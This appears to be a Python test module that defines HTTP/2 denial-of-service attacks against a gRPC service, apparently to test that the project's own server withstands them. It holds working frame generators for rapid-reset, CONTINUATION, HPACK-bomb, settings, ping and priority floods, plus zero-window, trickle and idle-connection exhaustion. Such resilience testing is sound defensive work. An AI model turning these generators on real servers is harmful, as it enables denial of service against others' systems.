"""Attacks with frames: what HTTP/2 lets a client send again and again."""

from functools import partial

from hyperframe.frame import Frame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from cqar.lane.grpc import framed
from tests.attacks.target import Attack, Turn, flood, hold
from tests.lane.peer import PREFACE, Peer, fields, raw

_GET = "/cqc.services.v1.AssetRegistry/GetVenue"
_CANCEL = 8
_IDLE_CONNECTIONS = 2_000
_INITIAL_WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE
_WINDOWS = raw(4, 0, 0, b"".join(b"\0\4" + (70_000 + at).to_bytes(4, "big") for at in range(2_730)))
_REQUEST = framed(b"\n\7binance")


def _number(at: int) -> int:
    return 2 * at + 1


def _head(peer: Peer, at: int) -> bytes:
    return peer.header(_number(at), fields(_GET)).serialize()


def _call(peer: Peer, at: int) -> bytes:
    return _head(peer, at) + peer.data(_number(at), _REQUEST, end=True).serialize()


def _settings(peer: Peer, at: int) -> list[Frame | bytes]:
    """Open streams, then change their windows 2,730 times a frame."""
    return [_head(peer, at), peer.data(_number(at), b"\0")] if at < 1_000 else [_WINDOWS]


def _made_you_reset(peer: Peer, at: int) -> list[Frame | bytes]:
    return [_call(peer, at), WindowUpdateFrame(_number(at), (1 << 31) - 1)]


def _continuations(_peer: Peer, at: int) -> list[Frame | bytes]:
    return [raw(1, 0, 1, b"\x83")] if not at else [raw(9, 0, 1, b"")]


def _bomb(peer: Peer, at: int) -> list[Frame | bytes]:
    """Fill an entry of the dynamic table, then refer to it 16,000 times a block."""
    if not at:
        return [peer.header(1, [*fields(_GET), ("x-bomb", "y" * 3_900)])]
    return [raw(1, 4, _number(at), b"\xbe" * 16_000)]


def _zero_windows(peer: Peer, at: int) -> list[Frame | bytes]:
    return [_call(peer, at)]


def _trickle(peer: Peer, at: int) -> list[Frame | bytes]:
    return [_call(peer, at)] if at < 500 else [WindowUpdateFrame(_number(at % 500), 1)]


#: Floods of one kind of turn.
_FLOODS: dict[str, Turn] = {
    "settings": _settings,
    "settings-flood": lambda _peer, at: [SettingsFrame(0, {_INITIAL_WINDOW: 70_000 + at % 2})],
    "rapid-reset": lambda peer, at: [_call(peer, at), RstStreamFrame(_number(at), _CANCEL)],
    "made-you-reset": _made_you_reset,
    "continuation": _continuations,
    "hpack-bomb": _bomb,
    "pings": lambda _peer, _at: [PingFrame(0, b"12345678")],
    "priority": lambda _peer, at: [PriorityFrame(_number(at), depends_on=0)],
    "empty-data": lambda peer, at: [_head(peer, 0)] if not at else [peer.data(1, b"")],
    "unknown-frames": lambda _peer, _at: [raw(0xBB, 0, 0, b"")],
}

FRAMES: dict[str, Attack] = {
    **{name: Attack(partial(flood, turn=turn)) for name, turn in _FLOODS.items()},
    "zero-windows": Attack(partial(flood, turn=_zero_windows, settings={_INITIAL_WINDOW: 0}, turns=1_000), closes=False),
    "trickle": Attack(partial(flood, turn=_trickle, settings={_INITIAL_WINDOW: 0}), closes=False),
    "idle-connections": Attack(
        partial(hold, count=_IDLE_CONNECTIONS, data=PREFACE + SettingsFrame(0).serialize()), closes=False
    ),
}
